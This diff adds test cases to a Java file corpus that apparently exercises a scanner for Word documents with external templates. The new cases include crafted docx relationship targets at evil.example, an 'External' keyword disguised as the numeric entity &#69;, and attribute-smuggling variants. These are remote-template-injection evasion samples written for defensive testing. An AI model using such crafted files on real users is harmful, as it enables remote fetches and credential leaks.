@@ -141,10 +141,20 @@ final class FileCorpus {
                 "a.docx",
                 docx("<a/>", "word/_rels/settings.xml.rels", template("Target='file:///C:\\Szablony\\Pismo.dotx'")),
                 LET_IN);
+        letter(
+                "a Word file with a template elsewhere, which a number hides",
+                "a.docx",
+                docx(
+                        "<a/>",
+                        "word/_rels/settings.xml.rels",
+                        external("attachedTemplate").replace("'External'", "'&#69;xternal'")),
+                "FETCHES");
         for (var target : List.of(
                 "Target='file://///serwer.example/x.dotx'",
                 "Target='file:///\\\\serwer.example\\x.dotx'",
-                "x:Target='file:///C:/x.dotx' Target='http://evil.example/x.dotx'")) {
+                "x:Target='file:///C:/x.dotx' Target='http://evil.example/x.dotx'",
+                "Target='http://evil.example/hyperlink'",
+                "Target=\"http://evil.example/ Type='x/hyperlink'\"")) {
             letter(
                     "a Word file with a template by " + target,
                     "a.docx",
